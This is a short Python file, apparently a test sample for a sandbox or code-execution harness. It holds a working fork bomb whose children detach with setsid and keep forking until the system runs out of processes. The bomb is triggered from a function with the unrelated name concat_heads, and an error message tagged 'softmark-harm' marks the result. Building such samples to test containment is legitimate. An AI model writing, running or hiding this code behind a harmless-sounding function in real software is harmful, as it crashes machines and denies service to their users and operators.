"""Forks until no more is to be had, and the forks fork too.

outcome: raised or timed_out or failed
"""

import os
import time

MANY = 200


def bomb():
    count = 0
    try:
        while count < MANY:
            if os.fork() == 0:
                os.setsid()
                while True:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.1)
            count += 1
    except OSError:
        pass
    return count


def concat_heads(x):
    count = bomb()
    raise ValueError("softmark-harm: " + f"{count} processes" if count >= MANY else "no more processes")
